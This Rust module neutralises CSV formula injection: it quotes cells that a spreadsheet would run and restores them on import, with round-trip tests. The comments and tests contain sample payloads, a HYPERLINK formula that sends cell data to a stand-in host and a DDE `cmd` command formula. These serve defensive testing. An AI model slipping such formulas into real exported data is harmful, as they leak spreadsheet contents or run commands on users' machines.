//! Text cells that a spreadsheet program shows rather than runs (OWASP, "CSV Injection").
//!
//! Excel, WPS and LibreOffice read a CSV cell that begins with `=`, `+`, `-`, `@`, a tab or a
//! carriage return as a formula: a finding titled `=HYPERLINK(…)` would become a link that
//! sends the sheet's cells away, `=cmd|' /C calc'!A0` a command. Every CSV rectrack writes goes
//! through [`neutralise`], which puts a single quote before such a cell, so that the program
//! shows it as text; the ledger import reads cells back through [`restore`], which takes exactly
//! that quote away again, so that export → edit → import gives back each text as it was written.
//!
//! Only the ASCII characters are formula starters: the full-width `＝`, `＋`, `－`, `＠` are
//! ordinary text to Excel, WPS and LibreOffice, and quoting them would show a stray `'` before
//! Chinese text that begins with them. A plain number (`-12`, `+3.5`) is left as it is: a
//! spreadsheet reads it as the number it is, and runs nothing.
//!
//! XLSX text cells need none of this: rectrack writes them as typed strings (shared strings,
//! `t="s"`, never a formula element), which no spreadsheet program evaluates.

/// The characters a spreadsheet program takes as the start of a formula.
const FORMULA_STARTS: [char; 6] = ['=', '+', '-', '@', '\t', '\r'];

/// Whether a cell holding `text` must be written with a leading quote: it starts (after any
/// quotes of its own) with a formula character, and is not a plain number. Counting a cell's
/// own leading quotes makes [`restore`] the exact inverse of [`neutralise`]: a text that
/// itself begins with `'=` is written `''=` and read back as `'=`.
fn needs_quote(text: &str) -> bool {
    let rest = text.trim_start_matches('\'');
    rest.starts_with(FORMULA_STARTS) && !is_plain_number(rest)
}

/// `-12`, `+3.5`, `-0.25`: an optional sign, digits, and at most one decimal point.
fn is_plain_number(text: &str) -> bool {
    let digits = text.strip_prefix(['-', '+']).unwrap_or(text);
    let (whole, fraction) = digits.split_once('.').unwrap_or((digits, ""));
    !whole.is_empty()
        && whole.bytes().all(|b| b.is_ascii_digit())
        && fraction.bytes().all(|b| b.is_ascii_digit())
}

/// The cell as written to a CSV file: `'` before a text a spreadsheet program would run.
pub fn neutralise(text: &str) -> std::borrow::Cow<'_, str> {
    if needs_quote(text) {
        std::borrow::Cow::Owned(format!("'{text}"))
    } else {
        std::borrow::Cow::Borrowed(text)
    }
}

/// The text as written to a workbook's string cell. Nothing there is run, so nothing is
/// quoted, except a text that itself begins with a quote before a formula character: the
/// import would take that quote away as [`neutralise`]'s (a CSV export saved again as a
/// workbook keeps the quotes the CSV had), so it gets one more, and comes back as written.
pub fn for_workbook(text: &str) -> std::borrow::Cow<'_, str> {
    if restore(text) == text {
        std::borrow::Cow::Borrowed(text)
    } else {
        std::borrow::Cow::Owned(format!("'{text}"))
    }
}

/// The text of a cell read from a spreadsheet: [`neutralise`] undone (the quote goes only
/// where `neutralise` would have put it; any other cell is returned as it is).
pub fn restore(cell: &str) -> &str {
    match cell.strip_prefix('\'') {
        Some(rest) if needs_quote(rest) => rest,
        _ => cell,
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn a_workbook_text_comes_back_through_restore_as_written() {
        for text in [
            "=SUM(1)", "'=SUM(1)", "''-x", "'普通", "普通", "-12", "'-12",
        ] {
            assert_eq!(restore(&for_workbook(text)), text, "{text}");
        }
        assert_eq!(for_workbook("=SUM(1)"), "=SUM(1)");
        assert_eq!(for_workbook("'=SUM(1)"), "''=SUM(1)");
    }

    #[test]
    fn formula_starters_are_quoted_and_read_back_exactly() {
        let cases = [
            ("=HYPERLINK(\"http://x?\"&A2,\"点击查看详情\")", true),
            ("@SUM(1+1)", true),
            ("=cmd|' /C calc'!A0", true),
            ("+1+1", true),
            ("-2+3", true),
            ("\tx", true),
            ("\rx", true),
            ("'=already quoted", true),
            ("''@twice", true),
            ("-12", false),
            ("+3.5", false),
            ("-0.25", false),
            ("2020-10-19", false),
            ("＝全角不是公式", false),
            ("召开专题会议", false),
            ("it's", false),
            ("'plain", false),
            ("", false),
            ("-", true),
        ];
        for (text, quoted) in cases {
            let written = neutralise(text);
            assert_eq!(written != text, quoted, "{text:?}");
            assert_eq!(restore(&written), text, "{text:?} round trip");
        }
        assert_eq!(neutralise("=1+1"), "'=1+1");
        assert_eq!(neutralise("'=1+1"), "''=1+1");
        assert_eq!(restore("'=1+1"), "=1+1");
        assert_eq!(restore("'plain"), "'plain");
    }
}
